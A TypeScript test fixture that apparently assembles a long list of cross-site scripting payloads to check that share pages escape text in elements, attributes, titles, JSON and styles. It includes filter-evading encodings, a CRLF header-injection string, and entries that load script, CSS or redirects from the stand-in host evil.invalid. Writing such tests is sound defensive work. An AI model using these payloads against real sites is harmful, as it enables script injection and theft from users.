// Texts that make a careless page run script, ask another machine or look like something else: every way out of the places where
// share pages write text (elements, attributes, titles, JSON, style), in the spellings that filters miss.

/** What every payload tries to do; the test's page notices it. */
const RUN = 'window.__ran=1';

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script/x>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</script>`,
  `<script\t>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<script>/*<!--*/${RUN}/*-->*/</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}' /></svg>#x" />`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>x</button>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus onfocus=${RUN}></form>`,
  `<base href="//evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<link rel=preload as=script href=//evil.invalid/x.js>`,
  `<style>@import '//evil.invalid/x.css';</style>`,
  `<style>*{background:url(//evil.invalid/x)}</style>`,
  `<xss style="animation-name:x" onanimationstart=${RUN}></xss>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
];

/** Ways out of the place where the text was written. */
const EXITS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</p>',
  '-->',
  '</style>',
  ']]>',
  '&quot;>',
  '"/>',
  '\u2028">',
];

const ATTRIBUTES = [
  `" onload="${RUN}`,
  `" onerror="${RUN}" src="x`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  `" style="background:url(//evil.invalid/x)`,
  `" srcset="//evil.invalid/x 1w`,
  `" src="//evil.invalid/x`,
  `" http-equiv="refresh" content="0;url=//evil.invalid/`,
  `\` onerror=${RUN} \``,
  `"onpointerenter=${RUN} x="`,
];

const SCHEMES = [
  `javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//evil.invalid/`,
  `https://evil.invalid/"><script>${RUN}</script>`,
];

const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{count}{n}{time}{__proto__}`,
  `$&$1$\`$'`,
  `</script><script>${RUN}</script>`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\\";${RUN}//`,
  `*/${RUN}/*`,
  `}</style><script>${RUN}</script>`,
];

const SPELLINGS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\ufe64script\ufe65${RUN}\ufe64/script\ufe65`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `\ud800<script>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `a\r\nSet-Cookie: x=1\r\n\r\n<script>${RUN}</script>`,
];

/** All of them, each once; none is longer than a title may be. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...EXITS.flatMap((exit, index) =>
      // The first two ways out with every tag, the others with some, so that the whole stays quick.
      TAGS.filter((_tag, tag) => index < 4 || (tag + index) % 5 === 0).map((tag) => `${exit}${tag}`),
    ),
    ...ATTRIBUTES,
    ...SCHEMES,
    ...TEMPLATES,
    ...SPELLINGS,
  ]),
].filter((payload) => payload.length <= 200);
